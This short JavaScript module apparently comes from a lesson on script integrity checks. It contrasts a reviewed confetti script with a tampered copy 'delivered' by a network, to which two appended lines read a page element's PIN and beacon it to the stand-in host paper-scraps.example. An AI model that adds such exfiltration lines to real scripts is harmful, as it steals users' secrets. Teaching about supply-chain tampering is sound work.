/** The script as Kilian has reviewed it. Integrity values in lessons are hashes of it, so that no byte may change. */
export const reviewed = `// confetti 1.4.2
export function confetti(card) {
  for (let piece = 0; piece < 60; piece++) {
    const paper = document.createElement('i');
    paper.style.left = Math.random() * 100 + '%';
    card.append(paper);
  }
}
`;

/** The script as the delivery network sends it, under the same name and version. The page never loads it. */
export const delivered = `${reviewed}
const pin = document.getElementById('pin').textContent;
navigator.sendBeacon('https://paper-scraps.example/', pin);
`;
